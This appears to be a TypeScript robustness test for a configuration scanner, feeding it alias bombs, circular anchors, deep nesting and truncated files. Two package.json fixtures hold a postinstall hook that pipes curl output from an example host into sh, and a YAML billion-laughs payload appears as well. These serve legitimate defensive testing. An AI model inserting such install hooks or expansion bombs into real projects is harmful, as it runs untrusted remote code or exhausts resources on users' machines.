/**
 * Does hostile configuration stop the engine? Bombs, circles, depths and half-typed files through parse, lower and judge: nothing throws,
 * nothing hangs, and what stands beside is still told.
 */
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { loadTestEngine } from '../support/engine';
import type { TestEngine } from '../support/engine';

let engine: TestEngine;
before(async () => {
  engine = await loadTestEngine();
});

function told(path: string, text: string): readonly string[] {
  return engine.check(text, path, { minimumConfidence: 'low', drafts: true }).map(({ rule }) => rule);
}

const service = 'services:\n  db:\n    image: postgres:17\n    privileged: true\n';
const bomb = (levels: number): string => Array.from({ length: levels }, (_, i) => `x${String(i)}: &a${String(i)} [${Array.from({ length: 9 }, () => (i === 0 ? 'lol' : `*a${String(i - 1)}`)).join(', ')}]\n`).join('');

describe('hostile configuration', function () {
  this.timeout(120_000);

  const monsters: Readonly<Record<string, readonly [path: string, text: string]>> = {
    'an alias bomb': ['compose.yaml', `${bomb(20)}${service}`],
    'a thousand aliases': ['compose.yaml', `x-a: &a { b: c }\nx-list:\n${'  - *a\n'.repeat(1000)}${service}`],
    'anchors in a circle': ['compose.yaml', `x-a: &a { b: *a }\nx-b: &b [*c]\nx-c: &c [*b]\n${service}`],
    'tabs': ['compose.yaml', `x-tab:\n\tkey: 1\n${service}`],
    'keys twice': ['compose.yaml', `x-a: 1\nx-a: 2\n${service}`],
    'a template': ['compose.yaml', `{{- if .Values.x }}\nx-a: {{ .Values.a | quote }}\n{{- end }}\n${service}`],
    'a quote that is never closed': ['compose.yaml', `${service}x-a: "open\n`],
    'ten thousand services': ['compose.yaml', `${service}${Array.from({ length: 10_000 }, (_, i) => `  s${String(i)}:\n    image: app:1\n`).join('')}`],
    'deep JSON': ['package.json', `{ "scripts": { "postinstall": "curl -s https://get.example.com | sh" }, "x": ${'['.repeat(50_000)}`],
    'megabytes of JSON': ['package.json', `{ "scripts": { "postinstall": "curl -s https://get.example.com | sh" }, "x": [${'{ "a": 1, "b": [true, null] },'.repeat(60_000)}0] }`],
    'a brace that is never closed': ['main.tf', 'resource "aws_ebs_volume" "a" {\n  encrypted = false\n}\nresource "aws_sqs_queue" "b" {\n  name = "${var.x'],
    'an instruction that never ends': ['Dockerfile', `FROM node:24\nUSER root\nRUN a ${'\\\n'.repeat(20_000)}`],
    'a name that names itself': ['Dockerfile', 'ARG A=$A\nARG B=${C:-$B}\nFROM node:24\nENV A=$A$A B=$A$A$A C=$B$B$B\nUSER root\n'],
    'zeros and noise': ['.env', `A=\u0000\u0001\ud800\nCALEY_CLIENT_SECRET=kT9vRq2LmX8wZ4pQ7hN1\n${'\u0000'.repeat(10_000)}`],
    'blocks in blocks': ['nginx.conf', `http {\n  autoindex on;\n${'location / {\n'.repeat(20_000)}`],
    'a list that is never closed': ['wrangler.toml', `deep = ${'['.repeat(20_000)}\nlist = [\n${'"a",\n'.repeat(5_000)}[vars]\nCALEY_CLIENT_SECRET = "kT9vRq2LmX8wZ4pQ7hN1"\n`],
    'sections in sections': ['.htaccess', `Options Indexes\n${'<If a>\n'.repeat(20_000)}${'</Directory>\n'.repeat(5_000)}`],
    'matches in matches': ['firestore.rules', `service cloud.firestore { match /databases/{d}/documents { match /{a=**} { allow read; } ${'match /{a=**} { '.repeat(20_000)}`],
    'sections without end': ['.npmrc', `strict-ssl=false\n${'[a.'.repeat(20_000)}`],
  };

  for (const [name, [path, text]] of Object.entries(monsters)) {
    it(`${name} leaves what stands beside`, () => {
      assert.ok(told(path, text).length > 0, path);
    });
  }

  const whole: readonly (readonly [path: string, text: string])[] = [
    ['compose.yaml', service], ['main.tf', 'resource "aws_db_instance" "a" {\n  storage_encrypted = false # why\n  tags = { a = "b" }\n}\n'],
    ['Dockerfile', 'FROM node:24\nENV A=b C="d e"\nRUN npm ci && \\\n    npm test\nUSER root\n'], ['.env', 'A=b\nexport C="d ${A}"\n'],
    ['nginx.conf', 'server {\n  listen 80;\n  location / { proxy_pass http://a; }\n}\n'], ['package.json', '{ "scripts": { "a": "b" }, "dependencies": { "c": "*" } }\n'],
    ['.htaccess', 'Options +Indexes\n<VirtualHost *:443>\n  SSLProtocol all \\\n  -SSLv3\n</VirtualHost>\n'], ['wrangler.toml', 'name = "é" # why\n[vars]\nA = """\nb"""\nC = [1, { d = 2 }]\n[[r]]\n'],
    ['firestore.rules', "service cloud.firestore {\n  match /databases/{d}/documents/{a=**} {\n    function f() { return a['b']; } // why\n    allow read, write: if f() || (true);\n  }\n}\n"],
    ['.github/workflows/ci.yml', 'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          echo ${{ secrets.A }}\n'],
  ];

  it('cut off anywhere is answered', () => {
    for (const [path, text] of whole) for (let end = 0; end <= text.length; end++) assert.doesNotThrow(() => told(path, text.slice(0, end)), `${path} ${String(end)}`);
  });

  it('mangled at random is answered', () => {
    const mangled = fc.tuple(fc.constantFrom(...whole), fc.array(fc.tuple(fc.nat(), fc.nat(20), fc.string({ maxLength: 6, unit: 'binary' })), { maxLength: 6 }));
    fc.assert(fc.property(mangled, ([[path, text], edits]) => {
      told(path, edits.reduce((before, [at, length, added]) => {
        const start = at % (before.length + 1);
        return before.slice(0, start) + added + before.slice(start + length);
      }, text));
    }), { numRuns: 300 });
  });
});
